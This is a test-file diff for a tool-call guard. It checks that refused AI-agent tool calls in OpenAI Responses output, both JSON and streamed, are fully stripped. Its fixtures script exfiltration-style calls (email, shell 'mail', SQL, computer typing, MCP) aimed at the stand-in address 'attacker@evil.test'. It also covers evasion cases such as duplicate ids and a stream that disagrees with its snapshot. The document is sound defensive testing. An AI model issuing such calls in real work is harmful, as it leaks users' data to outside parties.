@@ -7,6 +7,7 @@
 import { withheldResults } from '../../policy/refusal.js';
 import { ResponseStream } from 'openai/lib/responses/ResponseStream';
 import { describe, expect, it } from 'vitest';
+import { type Item, itemEvents, responseWith } from '../../../test/helpers/openai-responses-items.js';
 import { openaiFixture } from '../../../test/helpers/openai-stream-replay.js';
 import { parseSSE } from '../../../test/helpers/sse.js';
 import type { BlockedCall } from '../../policy/refusal.js';
@@ -185,5 +186,152 @@ describe('replaceResponsesToolResults', () => {
 
   it('cannot redact a request whose input is not a list of items', () => {
     expect(replaceResponsesToolResults({ model: 'm', input: 'hi' }, withheldResults(['call_a']))).toBe(false);
+  });
+});
+
+/** The core's hold over scripted item events: what was sent before the first call event, what was held, and the reader's view. */
+function holdItems(payloads: readonly Record<string, unknown>[]) {
+  const reader = responsesStreamReader({ operation: 'responses', injectedUsage: false });
+  let sent = '';
+  const held: HeldEvent[] = [];
+  for (const payload of payloads) {
+    const data = JSON.stringify(payload);
+    const encoded = `event: ${String(payload.type)}\ndata: ${data}\n\n`;
+    const info = reader.read({ event: String(payload.type), data });
+    if (held.length > 0 || info.toolCall) held.push({ event: String(payload.type), data, encoded });
+    else sent += encoded;
+  }
+  return { sent, held, view: reader.view() };
+}
+
+/** Refuses the calls `pick` chooses from the reader's view (as the guard would), and reads the result back. */
+function refuseItems(payloads: readonly Record<string, unknown>[], pick: (call: { id: string; name: string }) => boolean) {
+  const { sent, held, view: before } = holdItems(payloads);
+  const blocked = before.toolCalls.filter(pick).map((call) => ({ toolCallId: call.id, tool: call.name, reason: 'refused' }));
+  const raw = sent + refuseResponsesStream(held, blocked);
+  const events = parseSSE(raw);
+  const out = events.map((event) => JSON.parse(event.data) as Record<string, any>);
+  const reader = responsesStreamReader({ operation: 'responses', injectedUsage: false });
+  for (const event of events) reader.read({ event: event.event, data: event.data });
+  return { before, blocked, raw, events, payloads: out, view: reader.view() };
+}
+
+const SECRET = 'attacker@evil.test';
+const message = (id: string, text: string) => ({ id, type: 'message', status: 'completed', role: 'assistant', content: [{ type: 'output_text', text, annotations: [], logprobs: [] }] });
+const callItems = (): Item[] => [
+  { type: 'function_call', id: 'fc_1', name: 'send_email', arguments: `{"to":"${SECRET}"}`, status: 'completed' },
+  { type: 'custom_tool_call', id: 'ctc_1', call_id: 'call_c', name: 'run_sql', input: `SELECT '${SECRET}'` },
+  { type: 'computer_call', id: 'cu_1', call_id: 'call_cu', action: { type: 'type', text: SECRET }, pending_safety_checks: [], status: 'completed' },
+  { type: 'local_shell_call', id: 'lsh_1', call_id: 'call_ls', action: { type: 'exec', command: ['mail', SECRET], env: {} }, status: 'completed' },
+  { type: 'shell_call', id: 'sh_1', call_id: 'call_sh', action: { commands: [`mail ${SECRET}`], max_output_length: null, timeout_ms: null }, environment: null, status: 'completed' },
+  { type: 'apply_patch_call', id: 'ap_1', call_id: 'call_ap', operation: { type: 'create_file', path: '/tmp/x', diff: SECRET }, status: 'completed' },
+  { type: 'mcp_approval_request', id: 'mcpr_1', server_label: 'mail', name: 'send', arguments: `{"to":"${SECRET}"}` },
+  { type: 'tool_search_call', id: 'ts_1', call_id: null, execution: 'client', arguments: { query: SECRET }, status: 'completed' },
+  { type: 'future_call', id: 'fu_1', target: SECRET },
+];
+
+describe('F2/F3: every call item type, with or without a usable id, JSON and stream', () => {
+  it('JSON: each refused item is removed by the id the decoder gave it; the kept message stays', () => {
+    const json = responseWith([message('msg_1', 'Working on it.'), ...callItems()]) as Record<string, any>;
+    const view = decodeResponsesResponse(json);
+    expect(view.toolCalls.map((call) => call.name)).toEqual(['send_email', 'run_sql', 'computer', 'local_shell', 'shell', 'apply_patch', 'mcp:mail:send', 'tool_search', 'future_call']);
+    expect(view.toolCalls.map((call) => call.id)).toEqual(['#1', 'call_c', 'call_cu', 'call_ls', 'call_sh', 'call_ap', 'mcpr_1', '#8', 'fu_1']);
+    refuseResponsesResponse(json, view.toolCalls.map((call) => ({ toolCallId: call.id, tool: call.name, reason: 'refused' })));
+    expect(JSON.stringify(json)).not.toContain(SECRET);
+    expect(json.output.map((item: any) => item.type)).toEqual(['message', 'message']);
+    expect(decodeResponsesResponse(json).toolCalls).toEqual([]);
+  });
+
+  it('JSON: duplicate call ids go by position, so refusing one keeps the other', () => {
+    const json = responseWith([
+      { type: 'function_call', call_id: 'dup', name: 'read_file', arguments: '{"path":"a"}' },
+      { type: 'function_call', call_id: 'dup', name: 'send_email', arguments: `{"to":"${SECRET}"}` },
+    ]) as Record<string, any>;
+    const view = decodeResponsesResponse(json);
+    expect(view.toolCalls.map((call) => call.id)).toEqual(['#0', '#1']);
+    refuseResponsesResponse(json, [{ toolCallId: '#1', tool: 'send_email', reason: 'refused' }]);
+    expect(json.output.map((item: any) => item.name ?? item.type)).toEqual(['read_file', 'message']);
+  });
+
+  it('stream: every refused item leaves no event and no snapshot entry; the SDK accumulates the rest', async () => {
+    const { before, raw, events, payloads, view } = refuseItems(itemEvents([message('msg_1', 'Working on it.'), ...callItems()]), () => true);
+    expect(before.toolCalls.map((call) => call.id)).toEqual(['#1', 'call_c', 'call_cu', 'call_ls', 'call_sh', 'call_ap', 'mcpr_1', '#8', 'fu_1']);
+    expect(raw).not.toContain(SECRET);
+    expectConsistent(events, payloads);
+    expect(view.toolCalls).toEqual([]);
+    const final = await sdkFinal(payloads);
+    expect(final.output.map((item) => item.type)).toEqual(['message', 'message']);
+    expect(final.output_text).toMatch(/^Working on it\.\[Archestra\] 9 tool calls were blocked/);
+  });
+
+  it('stream: of two calls sharing a call id, or lacking one, only the refused one goes', async () => {
+    const items = [
+      { type: 'function_call', id: 'fc_1', call_id: 'dup', name: 'read_file', arguments: '{"path":"a"}' },
+      { type: 'function_call', id: 'fc_2', call_id: 'dup', name: 'send_email', arguments: `{"to":"${SECRET}"}` },
+      { type: 'function_call', id: 'fc_3', name: 'read_file', arguments: '{"path":"b"}' },
+      { type: 'function_call', id: 'fc_4', name: 'send_email', arguments: `{"to":"${SECRET}"}` },
+    ];
+    const { before, raw, events, payloads } = refuseItems(itemEvents(items), (call) => call.name === 'send_email');
+    expect(before.toolCalls.map((call) => call.id)).toEqual(['#0', '#1', '#2', '#3']);
+    expect(raw).not.toContain(SECRET);
+    expectConsistent(events, payloads);
+    const final = await sdkFinal(payloads);
+    expect(final.output.map((item) => (item.type === 'function_call' ? item.arguments : item.type))).toEqual(['{"path":"a"}', '{"path":"b"}', 'message']);
+  });
+});
+
+describe('F6: a stream and its final snapshot that disagree', () => {
+  const call = { type: 'function_call', id: 'fc_9', call_id: 'call_9', name: 'send_email', arguments: `{"to":"${SECRET}"}`, status: 'completed' };
+
+  it('a call only in the snapshot is judged (the terminal event is held) and removed from it', async () => {
+    const payloads = itemEvents([message('msg_1', 'Done.')], { snapshot: [message('msg_1', 'Done.'), call] });
+    const { before, raw, events, payloads: out } = refuseItems(payloads, () => true);
+    expect(before.toolCalls).toEqual([{ id: 'call_9', name: 'send_email', arguments: call.arguments }]);
+    expect(raw).not.toContain(SECRET);
+    expectConsistent(events, out);
+    const final = await sdkFinal(out);
+    expect(final.output.map((item) => item.type)).toEqual(['message', 'message']);
+    expect(final.output_text).toMatch(/^Done\.\[Archestra\]/);
+  });
+
+  it('a call only in the events is judged and its events removed', async () => {
+    const payloads = itemEvents([message('msg_1', 'Done.'), call], { snapshot: [message('msg_1', 'Done.')] });
+    const { before, raw, payloads: out } = refuseItems(payloads, () => true);
+    expect(before.toolCalls).toEqual([{ id: 'call_9', name: 'send_email', arguments: call.arguments }]);
+    expect(raw).not.toContain(SECRET);
+    expect((await sdkFinal(out)).output.map((item) => item.type)).toEqual(['message', 'message']);
+  });
+
+  it('a snapshot whose call has other arguments than the events: both are judged, and either refusal removes the call from both', async () => {
+    const benign = { ...call, arguments: '{"to":"boss@corp.test"}' };
+    const payloads = itemEvents([benign], { snapshot: [call] });
+    const { before, raw, payloads: out } = refuseItems(payloads, (view) => view.id === 'call_9' && view.name === 'send_email');
+    expect(before.toolCalls.map((view) => view.arguments)).toEqual([benign.arguments, call.arguments]);
+    expect(raw).not.toContain(SECRET);
+    expect(raw).not.toContain('boss@corp.test');
+    expect((await sdkFinal(out)).output.map((item) => item.type)).toEqual(['message']);
+  });
+
+  it('a call in an early lifecycle snapshot (response.created) is judged, held and removed there too', async () => {
+    const payloads = itemEvents([message('msg_1', 'Done.')]);
+    (payloads[0]!.response as Record<string, unknown>).output = [call];
+    const { before, raw, payloads: out } = refuseItems(payloads, () => true);
+    expect(before.toolCalls).toEqual([{ id: 'call_9', name: 'send_email', arguments: call.arguments }]);
+    expect(raw).not.toContain(SECRET);
+    expect(out[0]).toMatchObject({ type: 'response.created', response: { output: [] } });
+    expect((await sdkFinal(out)).output.map((item) => item.type)).toEqual(['message', 'message']);
+  });
+
+  it('a refused piece at the index of an item already sent (an orphan argument delta) drops its events but moves no item', async () => {
+    const kept = { type: 'function_call', id: 'fc_2', call_id: 'call_2', name: 'read_file', arguments: '{"path":"a"}', status: 'completed' };
+    const payloads = itemEvents([message('msg_1', 'Done.'), kept]);
+    const at = payloads.findIndex((payload) => payload.type === 'response.output_item.done');
+    payloads.splice(at, 0, { type: 'response.function_call_arguments.delta', sequence_number: 0, item_id: 'msg_1', output_index: 0, delta: SECRET });
+    payloads.forEach((payload, index) => (payload.sequence_number = index));
+    const { before, raw, events, payloads: out } = refuseItems(payloads, (view) => view.id === '#0');
+    expect(before.toolCalls.map((view) => [view.id, view.name])).toEqual([['#0', 'function_call'], ['call_2', 'read_file']]);
+    expect(raw).not.toContain(SECRET);
+    expectConsistent(events, out);
+    expect((await sdkFinal(out)).output.map((item) => item.type)).toEqual(['message', 'function_call', 'message']);
   });
 });
